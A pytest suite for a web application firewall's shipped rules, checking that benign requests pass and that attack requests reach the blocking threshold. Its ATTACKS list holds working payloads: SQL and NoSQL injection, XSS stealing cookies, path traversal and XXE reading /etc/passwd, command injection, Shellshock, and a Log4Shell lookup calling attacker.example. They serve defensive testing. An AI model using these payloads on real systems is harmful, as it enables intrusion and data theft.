"""The shipped rule set (`rules/`): it loads, every rule is documented and tested, benign traffic passes and
one attack per class reaches the anomaly threshold at paranoia 1."""

from __future__ import annotations

from pathlib import Path

import pytest

from edge.rules import load_rules
from edge.waf import RequestView, RuleSet, WafState, build_ruleset, evaluate, run_tests

RULES = Path(__file__).resolve().parents[2] / "rules"
CLASSES = {
    "protocol",
    "scanner",
    "lfi",
    "rfi",
    "ssrf",
    "rce",
    "php",
    "java",
    "node",
    "ssti",
    "xss",
    "sqli",
    "nosql",
    "xxe",
    "session-fixation",
    "ldap",
    "mail",
    "sensitive-files",
}
BROWSER = [
    "Host: shop.example.test",
    "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "Accept-Language: en-US,en;q=0.9",
    "Accept-Encoding: gzip, deflate, br",
    'Sec-CH-UA: "Chromium";v="126", "Not(A:Brand";v="24", "Google Chrome";v="126"',
    "Referer: https://shop.example.test/products?page=2",
    "Cookie: session=8f14e45fceea167a5a36dedd4bea2543; _ga=GS1.1.1700000000.1.1.1700000100.0.0.0; theme=dark",
]


@pytest.fixture(scope="module")
def ruleset() -> RuleSet:
    state, problems = load_rules(RULES)
    assert problems == [], "\n".join(problems)
    assert state is not None
    return state.ruleset


def verdict(
    ruleset: RuleSet, line: str, headers: list[str] | None = None, body: str | None = None, paranoia: int = 1
) -> tuple[int, list[str]]:
    """Score and matched rule ids of one request, head and body phases like the gateway."""
    own = {h.split(":", 1)[0].lower() for h in headers or []}
    base = [h for h in BROWSER if h.split(":", 1)[0].lower() not in own]
    view = RequestView.from_request_line(line, headers=base + (headers or []), body=body)
    data, view.body = view.body, None
    state = WafState()
    result = evaluate(ruleset, view, phase="head", state=state, paranoia=paranoia, threshold=5)
    if result.needs_body:
        view.body = data or b""
        result = evaluate(ruleset, view, phase="body", state=state, paranoia=paranoia, threshold=5)
    return result.score, [m.rule_id for m in result.matches]


def test_the_shipped_rules_load_and_their_examples_pass(ruleset: RuleSet) -> None:
    assert len(ruleset.rules) >= 60


def test_every_rule_is_described_tagged_and_tested_both_ways(ruleset: RuleSet) -> None:
    for rule in ruleset.rules:
        assert rule.description, rule.id
        assert CLASSES & set(rule.tags), f"{rule.id}: tags {rule.tags} name no class"
        outcomes = {test.match for test in rule.tests}
        assert outcomes == {True, False}, f"{rule.id} needs a matching and a non-matching example"
        assert 1 <= rule.paranoia <= 4


def test_rule_ids_are_unique(ruleset: RuleSet) -> None:
    ids = [rule.id for rule in ruleset.rules]
    assert len(ids) == len(set(ids))


def test_paranoia_1_rules_are_strong_or_tagged_weak(ruleset: RuleSet) -> None:
    """The scoring model: a paranoia-1 rule either reaches the threshold alone (a strong signal: syntax that
    benign traffic does not carry) or is tagged `weak` and scores under it, so that one weak signal never
    blocks and two do; rules above paranoia 1 always score under the threshold."""
    for rule in ruleset.rules:
        if rule.paranoia == 1 and rule.action == "score":
            if "weak" in rule.tags:
                assert 2 <= rule.score < 5 <= 2 * rule.score, f"{rule.id}: a weak signal scores 3 or 4"
            else:
                assert rule.score == 5, f"{rule.id}: a strong paranoia-1 rule must reach the threshold alone"
        if rule.paranoia > 1:
            assert rule.score < 5, f"{rule.id}: a higher-paranoia rule scores less than the threshold"


BENIGN = [
    ("GET /", None, None),
    ("GET /products/shoes/running?size=42&color=blue&sort=price-asc", None, None),
    ("GET /search?q=O%27Reilly+programming+books", None, None),
    ("GET /search?q=Tom%27s+diner+%26+grill", None, None),
    ("GET /search?q=select+a+plan+that+fits+your+team", None, None),
    ("GET /search?q=union+was+a+great+select", None, None),
    ("GET /search?q=where+to+find+an+update+or+delete+button", None, None),
    ("GET /search?q=1%2B1%3D2", None, None),
    ("GET /search?q=john%2Bor%40var.es", None, None),
    ("GET /search?q=JavaScript%3A+Basics+of+JavaScript+Language", None, None),
    ("GET /search?q=echo+in+the+mirror", None, None),
    ("GET /blog/2024/05/how-to-use-cat-and-grep", None, None),
    ("GET /login?next=https%3A%2F%2Fshop.example.test%2Faccount%2Forders", None, None),
    ("GET /share?url=https%3A%2F%2Fwww.example.com%2Farticle%3Fid%3D7", None, None),
    ("GET /static/app.3f2a1c.js", None, None),
    ("GET /api/v1/users/123/orders?limit=20&offset=40", None, None),
    (
        "POST /api/v1/orders",
        ["Content-Type: application/json"],
        '{"items": [{"sku": "A-1", "qty": 2}], "note": "Leave at the door, please!"}',
    ),
    (
        "POST /api/v1/profile",
        ["Content-Type: application/json"],
        '{"name": "Jane O\'Brien", "bio": "I build things (mostly web apps).", "age": 41}',
    ),
    (
        "POST /contact",
        ["Content-Type: application/x-www-form-urlencoded"],
        "name=Ann+Lee&email=ann%40example.org&message=Hi%2C+can+you+call+me+back%3F",
    ),
    (
        "POST /upload",
        ["Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryX"],
        '------WebKitFormBoundaryX\r\nContent-Disposition: form-data; name="title"\r\n\r\nHoliday photos\r\n'
        '------WebKitFormBoundaryX\r\nContent-Disposition: form-data; name="file"; filename="beach.jpg"\r\n'
        "Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0JFIF\r\n------WebKitFormBoundaryX--\r\n",
    ),
    ("GET /docs?topic=Please+select+the+rows+you+want+to+export", None, None),
    ("GET /price?amount=%245.00&currency=USD", None, None),
    ("GET /search?q=time+to+go+home", None, None),
    ("GET /search?q=dogs%3B+cat+lovers+welcome", None, None),
    ("GET /search?q=what+if+a%3Db", None, None),
    ("GET /search?q=how+to+create+table+in+excel", None, None),
    ("GET /search?q=trim+the+hedge+%28soon%29", None, None),
    ("GET /search?q=caf%C3%A9+cr%C3%A8me", None, None),
    ("GET /login?uname=john+doe", None, None),
    ("GET /redirect?u=https%3A%2F%2Fexample.com%2F2024%2F01%2Fpost", None, None),
    (
        "POST /upload",
        ["Content-Type: multipart/form-data; boundary=b"],
        '--b\r\nContent-Disposition: form-data; name="a&amp;b"; filename="r&eacute;sum&eacute;.pdf"\r\n'
        "Content-Type: text/plain; charset=utf-8\r\n\r\nhello\r\n--b--\r\n",
    ),
]


@pytest.mark.parametrize(("line", "headers", "body"), BENIGN)
def test_benign_requests_do_not_score(ruleset: RuleSet, line: str, headers: list[str] | None, body: str | None) -> None:
    score, matched = verdict(ruleset, line, headers, body)
    assert score == 0, f"{line}: {matched}"


ATTACKS = [
    ("protocol", "TRACE /", None, None),
    ("scanner", "GET /", ["User-Agent: sqlmap/1.7.4#stable (https://sqlmap.org)"], None),
    ("lfi", "GET /download?file=..%2F..%2F..%2Fetc%2Fpasswd", None, None),
    ("lfi", "GET /static/%2e%2e/%2e%2e/app/config", None, None),
    ("rfi", "GET /page.php?src=http%3A%2F%2F203.0.113.9%2Fshell.txt%3F", None, None),
    ("ssrf", "GET /fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", None, None),
    ("ssrf", "GET /fetch?url=http%3A%2F%2F0xa9fea9fe%2F", None, None),
    ("rce", "GET /ping?host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd", None, None),
    ("rce", "GET /ping?host=%7C+powershell+-enc+SQBFAFgA", None, None),
    ("rce", "GET /", ["User-Agent: () { :; }; /bin/bash -c id"], None),
    ("php", "GET /?x=%3C%3Fphp+system%28%24_GET%5Bc%5D%29%3B+%3F%3E", None, None),
    ("java", "GET /", ["X-Api-Version: ${${lower:j}ndi:ldap://attacker.example/a}"], None),
    ("java", "POST /api", ["Content-Type: application/json"], '{"cls": "java.lang.Runtime"}'),
    ("node", "POST /api", ["Content-Type: application/json"], '{"__proto__": {"isAdmin": true}}'),
    ("ssti", "GET /hello?name=%7B%7B7*7%7D%7D", None, None),
    ("xss", "GET /search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E", None, None),
    ("xss", "GET /search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dprompt%281%29%3E", None, None),
    (
        "xss",
        "POST /comment",
        ["Content-Type: application/x-www-form-urlencoded"],
        "body=%3Csvg%2Fonload%3Dalert%281%29%3E",
    ),
    ("sqli", "GET /item?id=1%27+OR+%271%27%3D%271", None, None),
    ("sqli", "GET /item?id=-1+UNION%2F**%2FSELECT+username%2Cpassword+FROM+users--", None, None),
    ("sqli", "POST /api/login", ["Content-Type: application/json"], '{"user": "admin\' -- ", "password": "x"}'),
    ("nosql", "GET /login?user%5B%24ne%5D=x&pass%5B%24ne%5D=x", None, None),
    ("nosql", "POST /api/login", ["Content-Type: application/json"], '{"user": {"$gt": ""}, "password": {"$gt": ""}}'),
    (
        "xxe",
        "POST /xml",
        ["Content-Type: application/xml"],
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
    ),
    ("session-fixation", "GET /login?PHPSESSID=attacker-chosen-id", None, None),
    ("sensitive-files", "GET /.env", None, None),
    ("sensitive-files", "GET /.git/config", None, None),
    ("sensitive-files", "GET /backup/site.sql", None, None),
    ("sensitive-files", "GET /wp-config.php.save", None, None),
    ("rce", "GET /run?c=time+ifconfig", None, None),
    ("rce", "GET /run?c=%7C%24u+wget+test", None, None),
    ("rce", "GET /run?c=IF+%22%25VAR%25%22+%3D%3D+%22after%22+%40echo+ok", None, None),
    ("rce", "GET /run?c=cat+%2F%5B%3F%5Dtc%2Fpa%5B%3F%5Dswd", None, None),
    ("rce", "GET /run?x=%40%7B%5Bsystem+%27id%27%5D%7D", None, None),
    ("php", "GET /run?x=%28system%29%28ls%29%3B", None, None),
    ("php", "GET /run?x=%24%20%7B%27ff%27%7D", None, None),
    ("node", "GET /run?foo=process%5B%22env%22%5D", None, None),
    ("xss", "GET /search?q=%3Cf+o+r+m", None, None),
    ("xss", "GET /search?q=%3Cv%3Avmlframe+src%3D%22x%22%2F%3E", None, None),
    ("sqli", "GET /item?id=%27%7B%22a%22%3A%22b%22%7D%27+%3F+%27a%27", None, None),
    ("sqli", "POST /post", ["Content-Type: application/x-www-form-urlencoded"], "db=tempdb"),
    ("ssrf", "GET /fetch?url=http%3A%2F%2F0xA9.0xFE.0xA9.0xFE%2F", None, None),
    ("ldap", "GET /dir?filter=value)(gidNumber%3C%3D100", None, None),
    (
        "protocol",
        "POST /upload",
        ["Content-Type: multipart/form-data; boundary=b"],
        '--b\r\nContent-Disposition: form-data; name="u"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n'
        "+ADw-script+AD4-\r\n--b--\r\n",
    ),
    (
        "protocol",
        "POST /upload",
        ["Content-Type: multipart/form-data; boundary=b"],
        '--b\r\nContent-Disposition: form-data; name="fi;le"; filename="t"\r\n\r\nx\r\n--b--\r\n',
    ),
    ("protocol", "GET /?param=%c0%af", None, None),
]


@pytest.mark.parametrize(("cls", "line", "headers", "body"), ATTACKS)
def test_attacks_reach_the_threshold_at_paranoia_1(
    ruleset: RuleSet, cls: str, line: str, headers: list[str] | None, body: str | None
) -> None:
    score, matched = verdict(ruleset, line, headers, body)
    assert score >= 5, f"{cls}: {line} scored {score} ({matched})"
    tags = {tag for rule in ruleset.rules if rule.id in matched for tag in rule.tags}
    assert cls in tags, f"{cls}: {line} matched {matched}"


PL2_PAIRS = [
    ("POST /post", ["Content-Type: application/x-www-form-urlencoded"], "pay%3DAND+7639%3D%28"),
    ("GET /item?id=1+XOR+%28select+1%29", None, None),
]


@pytest.mark.parametrize(("line", "headers", "body"), PL2_PAIRS)
def test_paranoia_2_sql_signals_block_together(
    ruleset: RuleSet, line: str, headers: list[str] | None, body: str | None
) -> None:
    """The two paranoia-2 SQL rules score 3 each: one alone stays under the threshold, both together block."""
    score, matched = verdict(ruleset, line, headers, body, paranoia=2)
    assert score >= 5, matched


@pytest.mark.parametrize(("line", "headers", "body"), BENIGN)
def test_benign_requests_stay_under_the_threshold_at_paranoia_2(
    ruleset: RuleSet, line: str, headers: list[str] | None, body: str | None
) -> None:
    score, matched = verdict(ruleset, line, headers, body, paranoia=2)
    assert score < 5, f"{line}: {matched}"


EXCLUSIONS = sorted((RULES / "exclusions").glob("*.toml"))


def test_the_loader_does_not_read_the_exclusion_recipes(ruleset: RuleSet) -> None:
    assert EXCLUSIONS, "rules/exclusions/ holds the recipes"
    assert not any(rule.id.startswith("exclude-") for rule in ruleset.rules)


@pytest.mark.parametrize("recipe", EXCLUSIONS, ids=[p.name for p in EXCLUSIONS])
def test_each_exclusion_recipe_loads_with_the_managed_rules_and_passes_its_examples(recipe: Path) -> None:
    """Copied into rules/ (sorting first, as its header says), a recipe must load: its skip targets exist."""
    files = [(str(recipe.parent.parent / ("05-" + recipe.name)), recipe.read_text())]
    files += [(str(path), path.read_text()) for path in sorted(RULES.glob("*.toml"))]
    combined = build_ruleset(files)
    assert run_tests(combined) == []
    (rule,) = [r for r in combined.rules if r.file.endswith("05-" + recipe.name)]
    assert rule.action == "skip" and "exclusion" in rule.tags and rule.description
